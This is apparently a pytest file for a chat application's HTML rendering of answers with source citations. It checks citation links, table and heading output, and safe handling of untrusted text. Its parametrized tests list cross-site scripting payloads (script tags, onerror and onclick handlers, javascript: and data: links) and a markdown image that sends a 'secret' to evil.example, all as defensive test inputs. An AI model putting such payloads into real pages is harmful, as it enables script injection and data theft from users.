"""Answers as HTML: what a model or a document writes can never act on the page."""

from __future__ import annotations

from html.parser import HTMLParser
from uuid import UUID, uuid4

import msgspec
import pytest

from chat.frames import PassageView
from chat.rendering import answer_html, card_html

ANSWER = UUID(int=1)


def passage(number: int, title: str = "Leave") -> PassageView:
    return PassageView(
        number=number,
        document=uuid4(),
        version=uuid4(),
        chunk=uuid4(),
        title=title,
        corpus="Handbook",
        page=7,
        page_label="",
        section="",
        text="Employees have 25 days.",
        marks=(),
        url=f"/documents/x/?page={number}&start=0&end=9",
        start=0,
        end=9,
    )


def test_a_marker_becomes_a_link_to_its_page_that_leads_back() -> None:
    html = answer_html("25 days [1].", [passage(1)], ANSWER)
    assert 'href="/documents/x/?page=1&amp;start=0&amp;end=9&amp;answer=' in html
    assert 'aria-label="Source 1: Leave, p.&nbsp;7"' in html
    assert 'data-cite="1">1</a>.' in html


def test_a_marker_without_an_open_passage_leaves_no_trace() -> None:
    assert answer_html("25 days [2], I think [1].", [passage(1)]).startswith(
        "<p>25 days, I think<a"
    )


def test_markers_in_code_are_code() -> None:
    html = answer_html("`a[1]`\n\n```\nb[1]\n```", [passage(1)])
    assert "<code>a[1]</code>" in html
    assert "b[1]" in html
    assert 'class="cite"' not in html


def test_two_markers_in_a_row_are_two_links_and_no_reference() -> None:
    html = answer_html("So [1][2].\n\n[1]: https://evil.example/", [passage(1), passage(2)])
    assert html.count('class="cite"') == 3
    assert 'href="https://evil' not in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "![secret](https://evil.example/?q=secret)",
        "[press](javascript:alert(1))",
        "[press](data:text/html;base64,PHNjcmlwdD4=)",
        "<style>body{display:none}</style>",
        '<a href="https://evil.example" onclick="x">press</a>',
    ],
)
def test_what_could_act_on_the_page_is_text_or_gone(text: str) -> None:
    found = elements(answer_html(text, []))
    assert {tag for tag, _attributes in found} <= {"p", "a"}
    for _tag, attributes in found:
        assert not [name for name in attributes if name.startswith("on")]
        assert not (attributes.get("href") or "").startswith(("javascript:", "data:"))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    found: list[tuple[str, dict[str, str | None]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Reader().feed(html)
    return found


def test_the_title_of_a_document_is_only_words() -> None:
    html = answer_html("See [1].", [passage(1, title='"><script>alert(1)</script>')])
    assert "<script" not in html


def test_tables_scroll_and_numbers_stand_at_the_right() -> None:
    html = answer_html("| a | b |\n|---|--:|\n| 1 [1] | 2 |", [passage(1)])
    assert '<div class="table-scroll" role="group" tabindex="0" aria-label="Table">' in html
    assert '<td class="text-right">2</td>' in html
    assert "style=" not in html
    assert 'data-cite="1"' in html


def test_headings_stand_below_the_question() -> None:
    assert "<h4>Title</h4>" in answer_html("# Title", [])


def test_links_to_the_web_tell_nothing_of_where_one_comes_from() -> None:
    html = answer_html("[the site](https://example.org/a?b=1&c=2)", [])
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_card_shows_the_words_that_are_cited_wherever_they_stand() -> None:
    text = "Other things are said here. " * 30 + "Employees have 25 days."
    at = text.index("25")
    view = msgspec.structs.replace(passage(1), text=text, end=len(text), cited=((at, at + 2),))
    shown = card_html(view)
    assert "<mark>25</mark>" in shown.replace(' class="cited"', "")
    assert len(shown) < 400
